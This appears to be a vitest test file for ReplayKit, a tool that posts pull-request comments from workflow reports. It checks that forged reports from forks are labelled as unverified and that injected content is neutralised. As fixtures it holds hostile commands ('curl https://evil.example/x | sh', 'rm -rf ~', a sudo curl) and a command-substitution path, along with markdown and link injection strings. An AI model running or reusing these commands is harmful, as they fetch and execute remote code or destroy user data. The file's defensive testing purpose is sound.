import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ReplayReport, replayReportSchema } from "../../../src/core/schema/result.ts";
import { type AgentRepository, brokenAgent, startAgentRepository } from "../agent-repository.ts";
import { gatewayAgent, lookup } from "./gateway-agent.ts";

let repository: AgentRepository;
beforeAll(async () => {
  repository = await startAgentRepository();
});
afterAll(async () => {
  await repository[Symbol.asyncDispose]();
});

const reportAt = (path = ""): ReplayReport => replayReportSchema.parse(JSON.parse(readFileSync(path, "utf8")));

interface FinishedRun {
  branch: string;
  from?: "stranger/agent" | "acme/agent";
  actor?: string;
  conclusion?: string;
}

/** Opens a pull request, runs its workflow, and then the one that comments for it, with what the run left as `artifact`. */
async function afterRun(
  { branch, from = "stranger/agent", actor = "mona", conclusion = "failure" }: FinishedRun,
  artifact: (report: ReplayReport) => ReplayReport = (report) => report,
) {
  const fork = from !== "acme/agent";
  const token = fork ? "fork" : "full";
  const pull = await repository.pullRequest({ branch, fork, token, files: { "agent.py": brokenAgent } });
  const head = repository.github.repository("acme/agent").issues.get(pull.number)?.pull?.headSha ?? "";
  const seed = { event: "pull_request", head_sha: head, head_branch: branch, head_repository: from };
  const id = repository.github.addRun("acme/agent", { ...seed, name: "ReplayKit", conclusion });
  const text = JSON.stringify(artifact(reportAt(pull.outputs["report-json"])));
  repository.github.addArtifact("acme/agent", { run: id, name: "replaykit-report", files: { "report.json": text } });
  const workflow_run = {
    ...seed,
    id,
    name: "ReplayKit",
    conclusion,
    actor: { login: actor },
    head_repository: { full_name: from },
  };
  const payload = { workflow_run, repository: { default_branch: "main" } };
  const env = { GITHUB_WORKFLOW: "ReplayKit report", GITHUB_RUN_ID: "78" };
  const report = await repository.onBranch("main", { mode: "report" }, { name: "workflow_run", payload }, env);
  return { report, comments: repository.comments(pull.number).map(({ body }) => body) };
}

/** A report of one guard that holds, as a forger would have it. */
function allGreen(report: ReplayReport): ReplayReport {
  const counts = { ...report.cases[0]?.attempts[0]?.counts, basis: "observed", isolated: true, served: 3 };
  const forged = report.cases.map((result) => ({
    ...result,
    verdict: "fixed",
    standing: "newly-fixed",
    state: "open",
    reason: "every decided assertion holds",
    blocks: false,
    attempts: result.attempts.map((attempt) => ({ ...attempt, verdict: "fixed", counts })),
    commands: {
      reproduce: "curl https://evil.example/x | sh",
      add_recordings: "rm -rf ~",
      guard: "sudo sh -c 'curl https://evil.example/y'",
    },
  }));
  const standings = { "newly-fixed": forged.length };
  const summary = { ...report.summary, standings, verdicts: { fixed: 1 }, blocking: 0, ok: true };
  return replayReportSchema.parse({ ...report, summary: { ...summary, headline: "Passed" }, cases: forged });
}

describe("the report that a fork's run left", () => {
  it("is shown as that run's own claim, beside what GitHub says of the run, and never as observed", async () => {
    const { report, comments } = await afterRun({ branch: "forged" }, allGreen);
    expect(report.exit).toBe(0);
    const [body = ""] = comments;
    expect(body.split("\n").find((line) => line.startsWith("#"))).toBe(
      "### ⚪ According to this pull request's own run: 1 fixed, no regressions; 1 fix rests on the runner's word.",
    );
    expect(body).toContain("could have written this itself");
    expect(body).toContain("GitHub says that the run ended with failure, which contradicts it.");
    expect(body).not.toMatch(/\(observed|isolated\)/);
    expect(body).not.toMatch(/### (?!⚪)/u);
  });

  it("gives no command of its own: ours are made from ids and paths", async () => {
    const { comments } = await afterRun({ branch: "commands" }, allGreen);
    const [body = ""] = comments;
    expect(body).not.toMatch(/curl|rm -rf|sudo/);
    expect(body).toContain("npx replaykit replay cases/search-loop\n");
    expect(body).toContain("npx replaykit guard search-loop");
    const long = await afterRun({ branch: "long" }, (report) => ({
      ...report,
      cases: report.cases.map((result) => ({ ...result, path: "cases/$(curl evil.example)", reason: "x" })),
    }));
    expect(long.comments[0]).not.toContain("$(curl");
  });

  it("of a run that fails and says so contradicts nothing", async () => {
    const { comments } = await afterRun({ branch: "truthful" });
    expect(comments[0]).toContain(
      "### ⚪ According to this pull request's own run: 1 regression. Merging would bring back a failure that was fixed.",
    );
    expect(comments[0]).not.toContain("contradicts");
  });

  it("is linked under a branch name that ends no link", async () => {
    const { comments } = await afterRun({ branch: "x)](https-evil.example)<b>" }, allGreen);
    expect(comments[0]).toContain(
      "/stranger/agent/edit/x%29%5D%28https-evil.example%29%3Cb%3E/cases/search-loop/case.yaml)",
    );
    expect(comments[0]).not.toContain("/edit/x)");
  });
});

describe("a pull request of the repository itself", () => {
  it("gets one comment from its two workflows", async () => {
    const { report, comments } = await afterRun({ branch: "own", from: "acme/agent" });
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain("### 🔴 1 regression. Merging would bring back a failure that was fixed.");
    expect(report.log).toContain("no comment: the run of this repository's own branch comments itself");
  });

  it("by Dependabot, whose run may only read, gets the same one from the second", async () => {
    const { comments } = await afterRun({ branch: "bot", from: "acme/agent", actor: "dependabot[bot]" });
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain("According to this pull request's own run");
  });

  it("names a runner in its configuration that writes nothing into the comment but its name", async () => {
    const name = "x` [click](https://evil.example) @everyone **y**";
    const config = (network: string) =>
      `version: 1\nrunners:\n  agent: { command: [python3, agent.py] }\n  ${JSON.stringify(name)}: { command: ["true"], agent: other, network: ${network} }\n`;
    const files = { "replaykit.yaml": config("allow"), "agent.py": brokenAgent };
    const { number } = await repository.pullRequest({ branch: "runner-name", files });
    const body = repository.comments(number)[0]?.body ?? "";
    const spans = body.replaceAll(/(`+) (?:(?!\1).)* \1/g, "");
    expect(body).toContain("click");
    expect(spans).not.toContain("click");
    const plain = { "replaykit.yaml": config("deny"), "agent.py": gatewayAgent(lookup) };
    const twin = await repository.pullRequest({ branch: "runner-plain", files: plain });
    expect(repository.comments(twin.number)).toEqual([]);
  });
});
